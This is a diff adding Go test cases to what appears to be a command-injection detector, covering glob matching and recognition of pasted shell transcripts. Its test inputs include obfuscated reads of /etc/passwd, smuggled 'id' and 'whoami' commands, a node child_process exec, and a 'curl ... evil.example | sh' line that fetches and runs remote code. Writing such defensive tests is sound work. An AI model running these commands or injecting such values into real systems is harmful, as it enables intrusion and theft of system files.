@@ -119,11 +119,15 @@ func TestGlobbedCommands(t *testing.T) {
 		{"referer glob", hdr("referer", "www.google.com/?param=;/bin/ca?+/et*/passwd"), "*", "*"},
 		{"api path query", q("next", "/api/v1/items?id=3"), "", ""},
 		{"cron", body("cron", "*/15 * * * * /usr/local/bin/backup.sh"), "", ""},
+		{"bracket class names a system dir", q("a", "cat /[e]tc/pa[s]swd"), "*", "*"},
+		{"bracket range names bin", q("a", "/usr/[a-z]in/whoami"), "*", "*"},
+		{"proc pid placeholder", body("doc", "The file /proc/[pid]/fdinfo/[fd] contains information about fanotify marks"), "", ""},
+		{"device range", body("doc", "/dev/vcs[1-63] are character devices for virtual console terminals"), "", ""},
 	})
 	for _, c := range []struct {
 		p, name string
 		want    bool
-	}{{"ca?", "cat", true}, {"?s?", "usr", true}, {"c*t", "cat", true}, {"c*t", "chmod", false}, {"*", "", true}, {"a[bc]d", "abd", true}, {"??", "cat", false}} {
+	}{{"ca?", "cat", true}, {"?s?", "usr", true}, {"c*t", "cat", true}, {"c*t", "chmod", false}, {"*", "", true}, {"a[bc]d", "abd", true}, {"a[bc]d", "aed", false}, {"[a-z]in", "bin", true}, {"[!a-c]in", "bin", false}, {"[pid]", "1", false}, {"??", "cat", false}} {
 		if got := globMatch(c.p, c.name); got != c.want {
 			t.Errorf("globMatch(%q, %q) = %v", c.p, c.name, got)
 		}
@@ -329,4 +333,26 @@ func FuzzShellShapes(f *testing.F) {
 			t.Fatalf("foldHost grew %d to %d bytes", len(s), len(f))
 		}
 	})
+}
+
+func TestShellDocuments(t *testing.T) {
+	runLevelCases(t, []levelCase{
+		{"transcript with output", body("doc", "$ ls -l /proc/$$/ns | awk '{print $1}'\ntotal 0\nlrwxrwxrwx. cgroup -> cgroup:[4026531835]"), "", ""},
+		{"commented script", body("doc", "# save the seed\necho saving\nbits=$(cat $poolfile) || bits=4096"), "", ""},
+		{"script from a command", body("doc", "mknod -m 660 /dev/port c 1 4\nchown root:kmem /dev/port"), "", ""},
+		{"transcript piped to a shell", body("doc", "$ echo hi\nhi\n$ curl -s https://evil.example/x | sh"), "cmdi-separator", "cmdi-separator"},
+		{"breakout before lines", q("host", "127.0.0.1\nid"), "*", "*"},
+		{"env then the project's script", body("doc", "$env:DEBUG='app';node app.js"), "", "cmdi-command-word"},
+		{"interpreter fed code", q("host", "x;node -e 'require(\"child_process\").exec(\"id\")'"), "*", "*"},
+		{"interpreter run on a dropped file", q("host", "x;python /tmp/x.py"), "*", "*"},
+		{"words then a separator", q("q", "foo bar\n;cat /etc/passwd"), "*", "*"},
+	})
+	for _, c := range []struct {
+		s    string
+		want bool
+	}{{"# a\nb", true}, {"sh1# cat x\n1 2", true}, {"ls -la /tmp\nx", true}, {"ls -la /tmp", false}, {"hello world\n;id", false}, {"1;\nid", false}} {
+		if got := shellDocument(c.s); got != c.want {
+			t.Errorf("shellDocument(%q) = %v", c.s, got)
+		}
+	}
 }
